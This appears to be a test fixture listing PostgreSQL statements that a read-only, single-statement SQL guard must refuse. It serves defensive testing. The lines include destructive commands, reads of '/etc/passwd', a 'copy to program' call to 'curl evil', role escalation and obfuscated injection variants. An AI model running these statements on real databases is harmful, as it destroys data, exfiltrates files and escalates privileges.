-- One text a line: refused on a connection with read-only, no-dynamic-sql, no-session-escape and single-statement. Lines are only ever added.
drop table orders
DROP/**/TABLE/**/orders
/* select */ drop table orders
select 1; drop table orders
select 1; update orders set total = 0
delete from orders
delete from orders where true
with gone as (delete from orders returning *) select * from gone
with a as (insert into t values (1) returning x) select * from a
with m as (merge into t using s on t.id = s.id when matched then delete returning t.id) select * from m
explain analyze delete from orders
explain (analyze, buffers) update orders set total = 0
select * into copied from orders
create table copied as select * from orders
create temp table copied as select * from orders
create materialized view v as select 1
refresh materialized view v
select * from orders for update
select * from orders for key share
select nextval('orders_id_seq')
select setval('orders_id_seq', 1)
select pg_terminate_backend(1)
select pg_cancel_backend(1)
select pg_reload_conf()
select pg_read_file('/etc/passwd')
select pg_ls_dir('/')
select lo_import('/etc/passwd')
select lo_export(1, '/tmp/x')
select lo_create(0)
select dblink_exec('dbname=shop', 'delete from orders')
select dblink('dbname=shop', 'select 1')
select pg_notify('c', 'x')
notify c, 'x'
select pg_logical_emit_message(true, 'a', 'b')
select pg_switch_wal()
select query_to_xml('select * from people', true, false, '')
select table_to_xml('people', true, false, '')
select cursor_to_xml('c', 1, true, false, '')
select ts_stat('select to_tsvector(ssn) from people')
select * from ts_stat('select to_tsvector(ssn) from people')
select my_function(1)
select pg_temp.leak()
select public.lower('A')
select 1 operator(pg_temp.@@@) 2
do $$ begin execute 'del' || 'ete from orders'; end $$
do $a$ begin perform $b$ ; drop $b$; end $a$
call refresh_totals()
prepare q as delete from orders
execute nobody_prepared_this
copy orders from stdin
copy orders to '/tmp/orders'
copy orders to program 'curl evil'
copy orders from program 'curl evil'
copy (delete from orders returning *) to stdout
create rule r as on select to t do instead select 1
create trigger t before insert on orders for each row execute function f()
create policy p on orders using (true)
create function f() returns int language sql as 'select 1'
create extension dblink
alter role current_user set statement_timeout = 0
alter database shop set search_path = evil
alter system set log_statement = 'none'
grant all on orders to public
revoke all on orders from public
set role postgres
set session authorization postgres
set statement_timeout = 0
set local statement_timeout = 0
select set_config('statement_timeout', '0', false)
select set_config('statement_' || 'timeout', '0', false)
select lower(set_config('role', 'postgres', false))
select set_config('application_name', 'x', false), set_config('role', 'postgres', false)
set default_transaction_read_only = off
set transaction read write
begin read write
begin isolation level serializable, read write
start transaction read write
set session characteristics as transaction read write
set search_path = evil, public
set search_path = public, pg_catalog
set standard_conforming_strings = off
set client_encoding = 'GBK'
set names 'SJIS'
set session_replication_role = replica
begin read only; commit; create table t (a int)
commit; drop schema public cascade
vacuum full
analyze orders
reindex table orders
cluster orders
truncate orders
lock table orders in access exclusive mode
comment on table orders is 'x'
security label on table orders is 'x'
load 'evil'
import foreign schema s from server f into public
create server s foreign data wrapper postgres_fdw
create subscription s connection 'host=evil' publication p
create publication p for all tables
listen c; notify c
merge into t using s on t.id = s.id when matched then delete
insert into orders values (1) on conflict do nothing
update only orders set total = 0 where id = 1
alter table orders add column a int
drop owned by shop
reassign owned by shop to postgres
selec 1
select 'unterminated
